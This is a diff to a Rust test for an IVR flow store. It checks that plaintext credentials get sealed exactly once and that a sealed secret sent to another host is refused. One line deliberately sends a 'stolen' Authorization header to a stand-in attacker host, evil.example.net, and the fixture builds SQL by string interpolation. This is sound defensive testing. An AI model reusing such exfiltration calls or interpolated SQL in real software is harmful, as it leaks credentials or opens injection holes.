@@ -1,7 +1,8 @@
 //! Flows: drafts and their faults, versions, plans that lead into them, simulated calls.
 
 use frontdesk::domain::{FlowId, Number, PhoneNumber, TenantId};
-use frontdesk::store::{Seals, ivr_flows, numbers};
+use frontdesk::store::text::FlowText;
+use frontdesk::store::{Seals, ivr_flows, ivr_secrets, numbers};
 use serde_json::{Value, json};
 
 use super::desk::{Answer, Desk};
@@ -339,10 +340,25 @@ async fn a_secret_does_not_follow_an_address_to_another_machine() {
             .flow;
         let name = id.to_string();
         let (_, sealed) = flow.credentials_mut().next().unwrap();
-        let place = ivr_flows::place_of_secrets(tenant, &name);
+        let place = ivr_secrets::place(tenant, &name);
         let opened = db.store.seals().open_kept(&place, sealed).unwrap();
         assert_eq!(opened.expose(), "Bearer s3cret");
-        let stolen = json!({"name": "Authorization", "value": sealed.expose()});
+        let sealed_text = sealed.expose().to_owned();
+        // What was kept before anything was sealed is sealed, once.
+        let plain = |name: &str| {
+            let kept = serde_json::to_string(&FlowText::from(&flow)).unwrap();
+            let open = kept.replace(sealed_text.as_str(), "Bearer s3cret");
+            format!("UPDATE ivr_flows SET draft = '{open}' WHERE id = '{name}'")
+        };
+        db.execute(&plain(&name)).await;
+        assert_eq!(ivr_secrets::seal_all(&db.store).await.unwrap(), 1);
+        assert_eq!(ivr_secrets::seal_all(&db.store).await.unwrap(), 0);
+        let drafts = "SELECT COUNT(*) FROM ivr_flows WHERE draft LIKE '%s3cret%'";
+        assert_eq!(db.number(drafts).await, 0);
+        let same = send("https://crm.example.com/v3/{account}", &kept).await;
+        assert_eq!(same.status, 200, "{}", same.body);
+
+        let stolen = json!({"name": "Authorization", "value": sealed_text});
         let refused = faults(&send("https://evil.example.net/", &stolen).await);
         assert_eq!(refused[0].0, pointer);
     })
